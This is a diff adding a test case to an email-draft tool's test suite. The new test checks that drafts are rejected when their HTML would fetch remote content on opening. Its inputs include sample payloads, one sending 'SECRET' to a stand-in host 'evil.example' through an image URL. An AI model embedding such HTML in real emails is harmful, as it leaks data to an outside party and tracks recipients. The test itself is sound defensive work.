@@ -242,6 +242,18 @@ describe('gmail_create_draft', () => {
     expect(saved).toEqual({ ok: true, data: { draft_id: draftId, message_id: messageId } })
     expect(boxOf(user).sent).toHaveLength(0)
   })
+
+  test.each([
+    '<img src="https://evil.example/p?d=SECRET">',
+    "<td background='//evil.example/p'>",
+    '<p style="background:url(https://evil.example/p)">',
+    '<link rel=stylesheet href=x>',
+  ])('asks where its HTML would load something from the web when it is opened: %s', async (html) => {
+    const user = await it.user({ scopes: [gmailScopes.compose] })
+    const asked = await user.call('create_draft', { ...mail, html })
+    expect(asked).toMatchObject({ ok: false, resolver: 'model', details: { parameter: 'html' } })
+    expect(boxOf(user).drafts.size).toBe(0)
+  })
 })
 
 describe('reading', () => {
